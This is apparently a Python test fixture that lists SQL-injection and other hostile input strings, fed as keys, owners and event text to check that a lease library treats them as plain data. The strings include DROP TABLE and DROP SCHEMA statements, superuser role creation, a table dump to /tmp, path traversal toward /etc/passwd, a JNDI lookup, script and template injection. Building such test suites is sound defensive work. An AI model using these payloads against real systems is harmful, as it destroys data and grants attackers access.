"""SQL-injection payloads, used as keys, owners, resources, idempotency keys and event text.

``{s}`` is replaced by the test's real schema name, so a payload that got through would hit real
tables. Every payload is a valid name by the documented rules (non-empty, <= 512 characters, no NUL).
"""

from __future__ import annotations

PAYLOADS = [
    # Classic quote breaking.
    "' OR '1'='1",
    "' OR 1=1 --",
    "admin'--",
    "'; DROP TABLE {s}.lease; --",
    "x'); DROP TABLE {s}.lease; --",
    "'); DELETE FROM {s}.fence; --",
    "'); DROP TABLE {s}.fence_publish; --",
    "1; UPDATE {s}.lease SET token = 1; --",
    "'; UPDATE {s}.fence SET token = 9223372036854775807; --",
    "a'); INSERT INTO {s}.fence VALUES ('x', 9223372036854775807, 'evil', now()); --",
    "' UNION SELECT key, owner, token, ttl, acquired_at, renewed_at, expires_at, released_at, now() FROM {s}.lease --",
    "' AND 1=CAST((SELECT version()) AS int) --",
    "' OR clock_timestamp() > '1970-01-01",
    # Identifier breaking.
    '" OR 1=1 --',
    '"; DROP SCHEMA "{s}" CASCADE; --',
    'IDENTIFIER"; DROP TABLE "{s}".lease; --',
    "{s}.lease",
    '"{s}"."lease"',
    # Dollar quoting, escapes, comments, statement separators.
    "$$; DROP TABLE {s}.event; $$",
    "$tag$ DROP TABLE {s}.lease $tag$",
    "E'\\x27'; DROP TABLE {s}.lease; --",
    "\\'; DROP TABLE {s}.lease; --",
    "\\\\'; SELECT pg_sleep(5); --",
    "/* */ DROP TABLE {s}.lease /* */",
    "-- DROP TABLE {s}.lease",
    ";",
    "'",
    "''",
    '"',
    "\\",
    "`",
    "\n'; DROP TABLE {s}.lease; --\n",
    "\r\n\t' OR '1'='1",
    "  ' OR 1=1 --  ",
    # Side effects an injection would try.
    "'||pg_sleep(5)||'",
    "'; SELECT pg_sleep(5); --",
    "'; COPY {s}.lease TO '/tmp/lease-dump'; --",
    "'; CREATE ROLE lease_evil SUPERUSER LOGIN; --",
    "'; ALTER SYSTEM SET fsync = off; --",
    "'; SELECT pg_terminate_backend(pg_backend_pid()); --",
    "'; SET search_path TO pg_temp; --",
    "'; RESET ALL; --",
    "'; ROLLBACK; --",
    "'; COMMIT; BEGIN; --",
    "'; LOCK TABLE {s}.lease; --",
    "'; LISTEN x; NOTIFY x; --",
    "'; CREATE DATABASE lease_evil; --",
    "'; GRANT ALL ON {s}.lease TO PUBLIC; --",
    # Driver and format placeholders.
    "%s",
    "%s%s%s%s",
    "%(key)s",
    "%(owner)s'); DROP TABLE {s}.lease; --",
    "%%",
    "%n%n%n",
    "{schema}",
    "{}",
    "{0}",
    ":key",
    "?",
    "$1",
    "$1::text",
    # Look-alike quotes, invisible and direction characters, other scripts.
    "\u02bc; DROP TABLE {s}.lease; --",
    "\uff07; DROP TABLE {s}.lease; --",
    "\u2018\u2019\u201c\u201d",
    "\u200b'\u200b OR 1=1",
    "\u202e'; DROP TABLE {s}.lease; --",
    "line\u2028separator'",
    "\u043a\u043b\u044e\u0447'); DROP TABLE {s}.lease; --",
    "\u65e5\u672c\u8a9e' OR '1'='1",
    "\U0001f512'; --",
    # Not SQL, but hostile elsewhere (logs, UIs, JSON, templates).
    '{"$ne": null}',
    '{"key": "\' OR 1=1"}',
    "\\u0000",
    "\\x00",
    "%00",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "${jndi:ldap://x/a}",
    "{{7*7}}",
    "'" * 512,
]


def payloads(schema: str) -> list[str]:
    return [p.replace("{s}", schema) for p in PAYLOADS]
